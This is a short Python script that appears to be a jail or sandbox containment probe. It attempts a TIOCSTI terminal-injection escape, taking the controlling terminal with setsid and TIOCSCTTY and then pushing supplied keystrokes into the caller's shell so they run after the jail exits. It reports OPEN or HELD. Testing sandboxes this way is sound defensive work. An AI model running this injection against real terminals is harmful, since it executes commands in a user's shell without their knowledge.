# Attack: push keystrokes into the terminal the jail was started from
# (TIOCSTI), so that the caller's shell runs them after the jail exits.
# First try to make the terminal ours (setsid + TIOCSCTTY), which TIOCSTI
# needs without CAP_SYS_ADMIN. The host checks its pty's input queue too.
import fcntl, os, sys, termios

text = sys.argv[1]
try:
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
    print("TIOCSCTTY: the terminal is now ours")
except OSError as e:
    print("setsid/TIOCSCTTY:", e.__class__.__name__, e.errno)
pushed = []
for fd in (0, 1, 2):
    try:
        for ch in text:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        pushed.append(fd)
    except OSError as e:
        print("fd", fd, "TIOCSTI:", e.__class__.__name__, e.errno)
print(f"OPEN TIOCSTI accepted on fd {pushed}" if pushed else "HELD TIOCSTI refused on fds 0-2")
